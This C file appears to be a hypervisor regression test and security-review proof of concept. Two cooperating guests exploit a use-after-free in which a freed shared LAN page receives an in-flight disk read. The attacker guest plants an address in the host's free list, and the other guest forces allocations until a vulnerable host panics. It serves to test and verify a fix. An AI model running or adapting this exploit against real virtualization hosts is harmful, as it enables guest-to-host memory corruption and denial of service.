/*
 * tests/boot/attack_lan_uaf.c: security review proof of concept.
 *
 * A --sharenet LAN page is freed (palloc_free_page(), which keeps the
 * free list's link in its first word) when its last member detaches. The
 * devices of a stopping guest detach in reverse order
 * (host/core/devices.c devices_detach()), so with
 * "--block=D --sharenet=EVIL" the LAN page is freed *before*
 * block_detach() waits for the block request still in flight. A read the
 * guest aimed at its own EVIL device page then lands, by host-physical
 * address, in a page on the host's free list and overwrites the link with
 * disk data the guest chose: the next palloc_page() after that page
 * hands out an attacker-chosen host address, zeroes it and uses it as a
 * shadow page table.
 *
 * role=a (the attacker): --sharenet=comm --block=d --sharenet=evil. Writes
 * sector 0 = EVIL_LINK, starts a read of sector 0 into the EVIL page (the
 * disk is throttled so that the read is still in flight), and powers off
 * at once.
 * role=b (any other guest): --sharenet=comm, only to see the attacker
 * leave (its comm slot is cleared when it is released). It then takes
 * shadow page tables (one per fresh 4 MiB region it touches), which pops
 * the host's free list through the freed pages, the LAN page, and then
 * EVIL_LINK: on the host as reviewed that is a host page fault at
 * EVIL_LINK ("HOST PANIC ... cr2=0xffffe000"). A host that waits for the
 * disk before freeing the page survives and b prints PASS.
 */
#include <stdio.h>
#include <string.h>

#include "../../drivers/blk.h"
#include "../../kernel/bootparams.h"
#include "../../kernel/hcall.h"
#include "../../kernel/irq.h"
#include "../../kernel/palloc.h"
#include "../../kernel/vm.h"
#include "boot_check.h"

/* Unmapped in the host (the Switcher region, past the pages mapped
 * there): a host that pops it from its free list faults reading it. */
#define EVIL_LINK 0xFFFFE000u
#define REGIONS 600	/* fresh 4 MiB regions role b touches */

static uint8_t sector[BLK_SECTOR_SIZE] __attribute__((aligned(4096)));

/* The n-th network device: its page (mapped) and gpa, and features. */
static volatile uint8_t *net_page(unsigned n, uint32_t *page_gpa,
				  uint16_t *features)
{
	volatile struct lguest_device_desc *d =
		vm_map_io(gpa(bootparams_mem_bytes()), 1);

	for (unsigned i = 0; i < LGUEST_MAX_DEVICES; i++) {
		if (d[i].type != LGUEST_DEVICE_T_NET || n-- != 0)
			continue;
		*page_gpa = d[i].pfn * 4096;
		*features = d[i].features;
		return vm_map_io(gpa(*page_gpa), 1);
	}
	return NULL;
}

static volatile uint8_t *slot(volatile uint8_t *page, unsigned s)
{
	return page + s * LGUEST_NET_SIZEOF;
}

static bool slot_empty(volatile uint8_t *p)
{
	for (unsigned i = 0; i < LGUEST_NET_SIZEOF; i++)
		if (p[i])
			return false;
	return true;
}

/* Sleep on timer ticks until cond(arg) holds. */
static void wait_until(bool (*cond)(volatile uint8_t *), volatile uint8_t *arg)
{
	uint32_t flags = irq_save();

	while (!cond(arg))
		irq_wait();
	irq_restore(flags);
}

static bool slot_full(volatile uint8_t *p)
{
	return !slot_empty(p);
}

static void role_a(void)
{
	uint32_t comm_gpa, evil_gpa;
	uint16_t comm_f, evil_f;
	volatile uint8_t *comm = net_page(0, &comm_gpa, &comm_f);
	volatile uint8_t *evil = net_page(1, &evil_gpa, &evil_f);
	struct blk_disk *d = blk_disk(0);

	CHECK(comm && evil && d);
	if (!comm || !evil || !d)
		return;
	/* Say we are here (our comm slot); the host clears it when we go. */
	volatile uint8_t *me = slot(comm, comm_f & LGUEST_NET_F_SLOT_MASK);
	for (unsigned i = 0; i < LGUEST_NET_SIZEOF; i++)
		me[i] = (uint8_t)(0xA0 + i);
	memset(sector, 0x5A, sizeof(sector));
	uint32_t link = EVIL_LINK;
	memcpy(sector, &link, sizeof(link));
	CHECK_EQ(blk_write(d, 0, sector, 1), 0);
	printf("a: sector 0 starts with %#lx; reading it into my --sharenet "
	       "page at gpa %#lx, then powering off with the read in flight\n",
	       (unsigned long)EVIL_LINK, (unsigned long)evil_gpa);
	fflush(stdout);
	struct blk_request req = {0};
	req.type = LGUEST_BLOCK_TYPE_READ;
	req.sector = 0;
	req.bytes = BLK_SECTOR_SIZE;
	req.nsec = 1;
	req.addr[0] = evil_gpa;
	req.len[0] = BLK_SECTOR_SIZE;
	CHECK_EQ(blk_start(d, &req), 0);
	/* Returning powers us off, the read still at the disk. */
}

static void role_b(void)
{
	uint32_t comm_gpa;
	uint16_t comm_f;
	volatile uint8_t *comm = net_page(0, &comm_gpa, &comm_f);

	CHECK(comm != NULL);
	if (!comm)
		return;
	unsigned mine = comm_f & LGUEST_NET_F_SLOT_MASK;
	volatile uint8_t *peer = slot(comm, mine == 0 ? 1 : 0);
	wait_until(slot_full, peer);
	printf("b: the attacker is on the LAN\n");
	fflush(stdout);
	wait_until(slot_empty, peer);
	printf("b: the attacker is gone; taking %u shadow page tables\n",
	       REGIONS);
	fflush(stdout);

	/* One page table of ours mapping one page, under REGIONS directory
	 * entries of the user half: each first touch makes the host take
	 * a fresh shadow page table with palloc_page(). */
	uint32_t *pd = gpa_to_virt(vm_pgdir());
	uint32_t *pt = palloc_page_zeroed();
	uint32_t *data = palloc_page_zeroed();
	CHECK(pt && data);
	if (!pt || !data)
		return;
	memset(pt, 0, 4096);
	data[0] = 0x600D;
	pt[0] = gpa_val(virt_to_gpa(data)) | 0x3;	/* present, writable */
	for (unsigned i = 1; i <= REGIONS; i++)
		pd[i] = gpa_val(virt_to_gpa(pt)) | 0x3;
	unsigned ok = 0;
	for (unsigned i = 1; i <= REGIONS; i++)
		ok += *(volatile uint32_t *)(uintptr_t)(i << 22) == 0x600D;
	for (unsigned i = 1; i <= REGIONS; i++)
		pd[i] = 0;
	hcall(LHCALL_FLUSH_TLB, 1, 0, 0);
	CHECK_EQ(ok, REGIONS);
	printf("b: %u regions mapped, host alive\n", ok);
	test_finish("attack_lan_uaf");
}

void app_main(void)
{
	const char *role = bootparams_cmdline();

	printf("TEST attack_lan_uaf START\n");
	fflush(stdout);
	if (strstr(role, "role=a"))
		role_a();
	else
		role_b();
}
